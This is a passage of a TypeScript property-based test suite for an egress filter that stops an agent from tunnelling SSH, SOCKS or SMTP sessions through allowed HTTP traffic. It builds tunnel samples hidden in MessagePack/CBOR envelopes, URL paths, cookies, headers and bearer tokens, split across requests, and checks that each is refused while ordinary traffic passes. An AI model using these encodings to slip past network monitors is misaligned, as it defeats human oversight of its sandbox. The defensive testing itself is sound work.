    if (!alone || !('refusal' in alone)) throw new Error(`not refused alone: ${how} ${start.subarray(0, 12).toString('hex')}`);
    const cut = 1 + (at % (start.length - 1));
    const streams = new BodyStreams();
    const first = streams.read('agent', 'http://allowed.example', { captured: frame(start.subarray(0, cut)), truncated: false }, ['Content-Type', ct]);
    const second = first ?? streams.read('agent', 'http://allowed.example', { captured: frame(start.subarray(cut)), truncated: false }, ['Content-Type', ct]);
    if (!second) throw new Error(`not refused across bodies: ${how} ${start.subarray(0, 12).toString('hex')} cut at ${cut}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: JSON of numbers that are data (scores, a version, a countdown, RGB, token ids, bits,
  // random byte lists), hashes and ids in hex, as messages and as bodies.
  const data = fc.oneof(
    fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 300 }).map((a) => JSON.stringify({ values: a })),
    fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 1, maxLength: 12 }).map((a) => JSON.stringify({ version: a })),
    fc.array(fc.integer({ min: 0, max: 1 }), { minLength: 1, maxLength: 64 }).map((a) => JSON.stringify({ bits: a })),
    fc.array(fc.integer({ min: 0, max: 50_000 }), { minLength: 1, maxLength: 40 }).map((a) => JSON.stringify({ tokens: a })),
    fc.uint8Array({ minLength: 16, maxLength: 32 }).map((u) => JSON.stringify({ sha: Buffer.from(u).toString('hex'), id: crypto.randomUUID() })),
    fc.constant('{"rgb":[255,0,0],"at":[5,4,3,2,1,0],"matrix":[[1,0],[0,1]]}'));
  fc.assert(fc.property(fc.array(data, { minLength: 1, maxLength: 6 }), (msgs) => {
    const scan = new InnerSessionScan();
    const found = msgs.map((m) => scan.read(Buffer.from(m))).find(Boolean);
    if (found) throw new Error(`${found}: ${msgs.map((m) => m.slice(0, 60)).join(' | ')}`);
    const streams = new BodyStreams();
    for (const m of msgs) {
      const alone = bodyTunnel(['Content-Type', 'application/json'], 'http://allowed.example/api', { captured: Buffer.from(m), truncated: false });
      const across = streams.read('agent', 'http://allowed.example', { captured: Buffer.from(m), truncated: false }, ['Content-Type', 'application/json']);
      if ((alone && 'refusal' in alone) || across) throw new Error(`a body refused: ${m.slice(0, 80)}`);
    }
  }), { numRuns: numRuns * 2, ...seed });

  // A packed envelope (Socket.IO's msgpack parser, a bridge's `{type: "data", data: <bin>}` in
  // MessagePack or CBOR): the bin's bytes are the relay's stream, past the message's start.
  const mpStr = (v: string): Buffer => Buffer.concat([Buffer.from(v.length < 32 ? [0xa0 + v.length] : [0xd9, v.length]), Buffer.from(v)]);
  const mpBin = (b: Buffer): Buffer => Buffer.concat([Buffer.from(b.length < 256 ? [0xc4, b.length] : [0xc5, b.length >> 8, b.length & 0xff]), b]);
  const cbStr = (v: string): Buffer => Buffer.concat([Buffer.from(v.length < 24 ? [0x60 + v.length] : [0x78, v.length]), Buffer.from(v)]);
  const cbBin = (b: Buffer): Buffer => Buffer.concat([Buffer.from(b.length < 24 ? [0x40 + b.length] : b.length < 256 ? [0x58, b.length] : [0x59, b.length >> 8, b.length & 0xff]), b]);
  const packedOf: Record<string, (b: Buffer) => Buffer> = {
    'msgpack': (b) => Buffer.concat([Buffer.from([0x82]), mpStr('type'), mpStr('data'), mpStr('data'), mpBin(b)]),
    'socket.io-msgpack': (b) => Buffer.concat([Buffer.from([0x83]), mpStr('type'), Buffer.from([2]), mpStr('data'), Buffer.from([0x92]), mpStr('data'), mpBin(b), mpStr('nsp'), mpStr('/')]),
    'cbor': (b) => Buffer.concat([Buffer.from([0xa2]), cbStr('op'), cbStr('write'), cbStr('data'), cbBin(b)]),
  };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.constantFrom(...Object.keys(packedOf)), fc.array(fc.nat(), { maxLength: 3 }), (start, how, cuts) => {
    const points = [...new Set(cuts.map((c) => 1 + (c % (start.length - 1))))].sort((a, b) => a - b);
    const scan = new InnerSessionScan();
    let found: string | undefined;
    for (const [i, p] of [0, ...points].entries()) found ??= scan.read(packedOf[how]!(start.subarray(p, points[i] ?? start.length)));
    if (!found) throw new Error(`not seen: ${how} ${start.subarray(0, 12).toString('hex')} cut at ${points.join(',')}`);
    const body = bodyTunnel(['Content-Type', 'application/msgpack'], 'http://allowed.example/up', { captured: packedOf[how]!(start), truncated: false });
    if (!body || !('refusal' in body)) throw new Error(`not refused as a body: ${how} ${start.subarray(0, 12).toString('hex')}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: packed messages of data (random bins, an image's bytes, text), as messages and bodies.
  fc.assert(fc.property(fc.array(fc.tuple(fc.constantFrom(...Object.keys(packedOf)), fc.uint8Array({ minLength: 1, maxLength: 200 })), { minLength: 1, maxLength: 5 }), (msgs) => {
    const scan = new InnerSessionScan();
    for (const [how, u] of msgs) {
      const m = packedOf[how]!(Buffer.from(u));
      if (scan.read(m)) throw new Error(`${how} ${Buffer.from(u).subarray(0, 16).toString('hex')}`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  // A GET long-poll tunnel's pieces in the path, a cookie or a header of its own (no body): alone and cut across two GETs.
  const headOf: Record<string, (b: Buffer) => { url: string; headers: string[] }> = {
    'path': (b) => ({ url: `http://allowed.example/t/7/${b.toString('base64url')}`, headers: [] }),
    'path-hex': (b) => ({ url: `http://allowed.example/poll/${b.toString('hex')}?sid=1`, headers: [] }),
    'cookie': (b) => ({ url: 'http://allowed.example/poll', headers: ['Cookie', `sid=abc; d=${encodeURIComponent(b.toString('base64'))}`] }),
    'header': (b) => ({ url: 'http://allowed.example/poll', headers: ['X-Data', b.toString('base64')] }),
    'bearer': (b) => ({ url: 'http://allowed.example/poll', headers: ['Authorization', `Bearer ${b.toString('base64url')}`] }),
  };
  const empty = { captured: Buffer.alloc(0), truncated: false };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.constantFrom(...Object.keys(headOf)), fc.nat(), (start, how, at) => {
    const head = headOf[how]!(start);
    const alone = bodyTunnel(head.headers, head.url, empty);
    if (!alone || !('refusal' in alone)) throw new Error(`not refused alone: ${how} ${start.subarray(0, 12).toString('hex')}`);
    const cut = 1 + (at % (start.length - 1));
    const streams = new BodyStreams();
    const [h1, h2] = [headOf[how]!(start.subarray(0, cut)), headOf[how]!(start.subarray(cut))];
    const found = streams.read('agent', 'http://allowed.example', empty, h1.headers, h1.url) ?? streams.read('agent', 'http://allowed.example', empty, h2.headers, h2.url);
    if (!found) throw new Error(`not refused across GETs: ${how} ${start.subarray(0, 12).toString('hex')} cut at ${cut}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: GETs of an ordinary client (paths of ids and hashed assets, session cookies, tokens, request ids, hashes), one agent's in a row.
  fc.assert(fc.property(fc.array(fc.tuple(fc.constantFrom('/api/items/', '/static/app.', '/objects/', '/v1/users/', '/'), fc.uint8Array({ minLength: 1, maxLength: 24 }), fc.constantFrom('hex', 'base64url', 'digits')), { minLength: 1, maxLength: 6 }), (gets) => {
    const streams = new BodyStreams();
    for (const [prefix, id, enc] of gets) {
      const v = enc === 'digits' ? String(Buffer.from(id).readUIntBE(0, Math.min(id.length, 6))) : Buffer.from(id).toString(enc as BufferEncoding);
      const headers = ['Cookie', `sid=${crypto.randomBytes(16).toString('hex')}; csrftoken=${crypto.randomBytes(24).toString('base64url')}`, 'X-Request-Id', crypto.randomUUID(),
        'Authorization', `Bearer eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: v })).toString('base64url')}.${crypto.randomBytes(32).toString('base64url')}`,
        'X-Amz-Content-Sha256', crypto.randomBytes(32).toString('hex'), 'traceparent', `00-${crypto.randomBytes(16).toString('hex')}-${crypto.randomBytes(8).toString('hex')}-01`];
      const url = `http://allowed.example${prefix}${v}${prefix.endsWith('.') ? '.js' : ''}`;
      const alone = bodyTunnel(headers, url, empty);
      const across = streams.read('agent', 'http://allowed.example', empty, headers, url);
      if ((alone && 'refusal' in alone) || across) throw new Error(`refused: ${url}`);
    }
  }), { numRuns: numRuns * 2, ...seed });

  // The answer side: a server's greeting in a list or in hex cuts a body tunnel's answer; a JSON answer of numbers goes on.
  const answerRequest = { method: 'POST', url: 'http://allowed.example/tunnel', bodyLength: 10 };
  for (const [what, body, cut] of [['an SMTP greeting in a list', JSON.stringify({ data: [...Buffer.from('220 mail.example ESMTP Postfix\r\n')] }), true],
    ['an SSH line in hex', Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n').toString('hex'), true], ['scores', JSON.stringify({ data: [1, 2, 3, 200, 100, 50] }), false]] as const) {
    const answers = new AnswerTunnels();
    const watch = answers.watch('agent', 'http://allowed.example', answerRequest, [['content-type', 'application/json']]);
    t.equal(!!(watch?.chunk(Buffer.from(body)) ?? (watch?.end(), answers.refused('agent', 'http://allowed.example'))), cut, `an answer of ${what}: ${cut ? 'cut' : 'goes on'}`);
  }

  t.end();
});

// An agent polling one path (or sending one body again and again) starts a stream with each request
// and goes on with those begun before: a dozen readings a request, ~100 µs of every GET's CPU once
// the path was read (twenty-ninth pass). BodyStreams looks up the reading of a stream that is one
// piece sent n times over (scanRuns). The lookup must find exactly what reading finds: the same
// series of bodies and GETs is read with the remembered runs and with none (forgotten before each
// request), and every request's verdict is the same.
t.test('a stream of one piece sent again and again is read the same with its remembered reading as without', async (t) => {
  const ssh = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  const socks = Buffer.from([5, 1, 0, 5, 1, 0, 3, 9, ...Buffer.from('127.0.0.1'), 0, 22]);
  const pool = [Buffer.from('S'), Buffer.from('bench'), Buffer.from('05'), Buffer.from([5, 1, 0]), Buffer.from('AAAA'), Buffer.from('%0D%0A'),
    ssh.subarray(0, 4), ssh.subarray(4), socks.subarray(0, 3), socks.subarray(3), Buffer.from('FgMB'), Buffer.from('050100')];
  const step = fc.record({ piece: fc.constantFrom(...pool.keys()), times: fc.integer({ min: 1, max: 6 }), as: fc.constantFrom('body', 'path', 'cookie', 'header') });
  let compared = 0;
  fc.assert(fc.property(fc.array(step, { minLength: 1, maxLength: 8 }), (steps) => {
    const remembered = new BodyStreams();
    const reference = new BodyStreams();
    for (const { piece, times, as } of steps) {
      const b = pool[piece]!;
      const text = b.toString('latin1');
      const url = as === 'path' ? `http://allowed.example/poll/${encodeURIComponent(text)}` : 'http://allowed.example/poll';
      const headers = as === 'cookie' ? ['Cookie', `sid=${encodeURIComponent(text)}`] : as === 'header' ? ['X-Data', text.replace(/[^\x21-\x7e]/g, '')] : [];
      const captured = { captured: as === 'body' ? b : Buffer.alloc(0), truncated: false };
      for (let i = 0; i < times; i++) {
        const withRuns = remembered.read('agent', 'http://allowed.example', captured, headers, url);
        forgetScanRuns();
        const without = reference.read('agent', 'http://allowed.example', captured, headers, url);
        compared++;
        if (withRuns !== without) throw new Error(`${as} ${JSON.stringify(text)} ×${i + 1}: ${withRuns} with remembered runs, ${without} without`);
      }
    }
  }), { numRuns: Math.min(numRuns, 40), ...seed });
  t.pass(`${compared} requests read both ways`);
});
